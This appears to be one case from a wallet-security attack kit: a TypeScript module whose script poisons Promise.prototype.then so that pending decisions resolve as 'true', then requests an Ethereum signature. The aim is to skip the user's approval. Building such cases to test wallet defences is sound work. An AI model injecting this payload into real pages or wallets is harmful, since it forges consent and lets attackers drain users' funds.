import type { Attack } from './kit/attack.ts'

export default {
  family: 'poisoning',
  how: 'Replaces Promise.prototype.then, so that whatever waits for a decision goes on at once.',
  script: `
    const then = Promise.prototype.then
    Promise.prototype.then = function (onResult, onError) {
      setTimeout(() => { try { onResult?.(true) } catch {} }, 50)
      return then.call(this, onResult, onError)
    }
    ethereum.request(attack.sign)
    await attack.sleep(300)
  `,
} satisfies Attack
